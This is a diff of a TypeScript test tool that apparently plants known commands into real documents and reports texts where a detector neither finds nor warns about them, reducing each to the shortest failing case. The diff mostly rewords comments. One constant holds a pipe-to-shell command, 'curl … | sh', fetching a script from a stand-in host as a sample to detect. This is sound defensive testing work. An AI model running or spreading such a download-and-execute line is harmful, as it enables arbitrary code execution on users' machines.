@@ -1,7 +1,7 @@
 /**
- * Sets known commands into real documents, where one paragraph ends and the next begins, and prints each text in which the
- * command is not found and nobody warns against it, made as short as it still goes wrong:
- * `npm run lab -- weave [--profile PROFILE] [--seed N] [PATH…]`. Without a path it reads the documents below `node_modules`.
+ * Inserts known commands into real documents, between two paragraphs, and prints each text in which the command is not found and
+ * nobody warns against it, shortened as far as it still fails: `npm run lab -- weave [--profile PROFILE] [--seed N] [PATH…]`.
+ * Without a path it reads the documents below `node_modules`.
  */
 import { parseArgs } from "node:util";
 import { series } from "../bench/series.js";
@@ -13,7 +13,7 @@ import { readers, type NamedText } from "./compare/texts.js";
 
 const PIPE = "curl -fsSL https://get.x.example/i.sh | sh";
 
-/** Commands as people show them, by the profile that knows them. */
+/** Commands as people show them, by the profile that finds them. */
 const FORMS = {
   contract: [
     `\`\`\`sh\n${PIPE}\n\`\`\``,
@@ -40,10 +40,10 @@ const LONGEST = 60_000;
 
 const PROSE = /\.(?:md|mdx|markdown|rst|adoc|asciidoc|org|txt)$|(?:^|\/)readme[^/]*$/i;
 
-/** A line of a list, a table, a quotation or markup: what follows one may belong to it. */
+/** Matches a line of a list, a table, a quotation or markup: the text after it may belong to it. */
 const MARKED = /^(?:\s|[-*+|<>:]|\d+[.)])/;
 
-/** The blank lines between two paragraphs, which are in no fence. */
+/** Returns the blank lines between two paragraphs, outside fences. */
 function gaps(lines: readonly string[]): number[] {
   let isInFence = false;
   return lines.flatMap((line, at) => {
@@ -57,7 +57,7 @@ function gaps(lines: readonly string[]): number[] {
   });
 }
 
-/** The lines of a text up to each blank one; a fence stays whole. */
+/** Returns the lines of a text up to each blank one; a fence is not divided. */
 function blocksOf(text: string): string[] {
   const blocks: string[][] = [[]];
   let isInFence = false;
@@ -69,7 +69,7 @@ function blocksOf(text: string): string[] {
   return blocks.map((block) => block.join("\n"));
 }
 
-/** As few blocks of a text as still go wrong: each half is left out, then each quarter, and so on. */
+/** Returns as few blocks of a text as still fail: leaves out each half, then each quarter, and so on. */
 function shortest(text: string, isWrong: (text: string) => boolean): string {
   let blocks = blocksOf(text);
   for (
